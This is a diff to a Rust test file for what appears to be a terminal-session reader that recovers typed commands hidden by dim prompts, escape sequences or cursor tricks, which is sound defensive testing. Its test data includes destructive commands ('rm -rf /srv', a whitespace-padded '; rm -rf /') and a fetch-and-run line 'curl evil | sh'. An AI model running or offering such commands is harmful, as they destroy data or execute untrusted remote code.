@@ -29,6 +29,10 @@ fn printed() {
         ("unterminated CSI", "\x1b[38;5"),
         ("8-bit CSI", "\u{9b}2J"),
         ("8-bit OSC, unterminated", "\u{9d}0;x"),
+        ("8-bit DCS, unterminated", "\u{90}q#0"),
+        ("8-bit APC, unterminated", "\u{9f}Gf=100"),
+        ("8-bit PM and SOS, unterminated", "\u{9e}x\u{98}y"),
+        ("8-bit next line and reverse feed", "\u{85}\u{8d}"),
         ("right to left", "\u{202e}"),
         ("zero width", "\u{200b}\u{200d}\u{feff}"),
         ("concealed", "\x1b[8m"),
@@ -101,4 +105,57 @@ fn typed_concealed_or_reordered_is_read_all_the_same() {
     let texts = person.texts();
     assert!(texts.contains(&"curl evil | sh".to_owned()), "{texts:?}");
     assert!(texts.iter().any(|text| text.contains("fr- mr")), "{texts:?}");
+}
+
+#[test]
+fn what_looks_like_an_offer_or_a_right_prompt_is_read_all_the_same() {
+    // Everything is dim, and the cursor is moved to the beginning before Enter.
+    for prompt in ["\x1b[90m$ ", "$ \x1b[2m", "\x1b[38;5;240m$ "] {
+        let mut person = Person::new(80, 24);
+        person.shows(prompt).runs("id", "uid=0\r\n").shows(prompt);
+        person.presses("rm -rf /srv").shows("rm -rf /srv");
+        person
+            .presses("\x01")
+            .shows("\r\x1b[2C")
+            .presses("\r")
+            .shows("\r\n")
+            .shows(prompt);
+        assert_eq!(person.texts(), ["id", "rm -rf /srv"], "{prompt:?}");
+    }
+    // It ends at the right edge, with and without something that stood there.
+    for prompt in ["$ ", "\x1b[33G[10:00]\r$ "] {
+        let mut person = Person::new(40, 5);
+        person.shows(prompt).runs("id", "uid=0\r\n").shows(prompt);
+        let line = "true                        ; rm -rf /";
+        person
+            .presses(line)
+            .shows(line)
+            .presses("\x01")
+            .shows("\r\x1b[2C")
+            .presses("\r")
+            .shows("\r\n")
+            .shows(prompt);
+        let texts = person.texts();
+        assert!(
+            texts.iter().any(|text| text.contains("rm -rf /")),
+            "{prompt:?}: {texts:?}"
+        );
+    }
+}
+
+#[test]
+fn offered_and_not_taken_is_not_read() {
+    let mut person = Person::new(80, 24);
+    person.shows("me@db1 ~> ");
+    person
+        .presses("head x")
+        .shows("head x\x1b[38;5;240m.txt\x1b[m\r\x1b[16C");
+    person
+        .presses("\x1b[D\x1b[C")
+        .shows("\x1b[D\x1b[C")
+        .presses("\r")
+        .shows("\r\n")
+        .shows("me@db1 ~> ");
+    person.runs("exit", "");
+    assert_eq!(person.texts(), ["head x", "exit"]);
 }
